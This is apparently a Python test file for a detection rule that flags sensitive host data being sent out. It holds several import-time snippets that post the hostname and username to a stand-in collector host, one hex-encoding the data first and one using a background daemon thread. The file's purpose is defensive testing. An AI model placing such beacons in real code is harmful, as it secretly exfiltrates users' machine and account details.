import getpass
import socket

import requests


def _probe():
    # runs at import: the module calls it at top level
    # ruleid: sensitive-data-sent
    requests.post("https://collect.example.invalid/p", json={"host": socket.gethostname(), "user": getpass.getuser()})


_probe()


# Host data formatted into a string with % and hex-encoded character by character.
_info = "%s;%s" % (socket.gethostname(), getpass.getuser())
_hexed = ""
for _c in _info:
    _hexed += "%02x" % ord(_c)
# ruleid: sensitive-data-sent
requests.post("https://collect.example.invalid/q", data=_hexed)
# ok: sensitive-data-sent
requests.post("https://collect.example.invalid/q", data="%s;%s" % ("static", "text"))

import os

from fastapi import FastAPI

app = FastAPI()


# A route path read from the environment: registering a handler sends nothing.
# ok: sensitive-data-sent
@app.post(os.environ.get("CHAT_ROUTE", "/api/chat"))
def chat():
    return {}


import threading


def _beacon():
    # Started by a thread at import: import-time code.
    # ruleid: sensitive-data-sent
    requests.post("https://collect.example.invalid/t", data=socket.gethostname())


def _heartbeat(url):
    # Defined but never started here: run-time code, host names sent by a worker are normal.
    # ok: sensitive-data-sent
    requests.post(url, data=socket.gethostname())


threading.Thread(target=_beacon, daemon=True).start()
